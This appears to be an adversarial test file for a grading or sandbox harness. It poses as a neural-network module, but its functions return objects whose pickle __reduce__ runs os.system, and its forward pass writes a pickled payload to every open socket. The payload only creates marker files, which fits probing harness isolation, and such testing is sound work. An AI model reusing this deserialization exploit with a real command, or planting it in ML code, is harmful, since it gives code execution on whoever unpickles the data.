"""Sends a pickle over the wire, and returns objects that run code when somebody unpickles them."""

import os
import pickle
import stat

import numpy as np


class Bomb:
    def __reduce__(self):
        return os.system, ("touch attack-marker-unpickled /tmp/attack-marker-unpickled",)


def relu(X):
    return Bomb()


def prelu(X):
    return np.array([Bomb()], dtype=object)


def DNNforward(X, W, K):
    data = pickle.dumps(Bomb())
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                os.write(fd, len(data).to_bytes(4, "big") + data)
        except OSError:
            pass
    return Bomb(), Bomb(), Bomb()


def DNNbackward(X, y, W, K, H, A, O):
    return W, K


def train(X, y, W, K, lr, num_epochs=10, batch_size=10, print_loss=False):
    return [W * 0] * num_epochs, [K * 0] * num_epochs
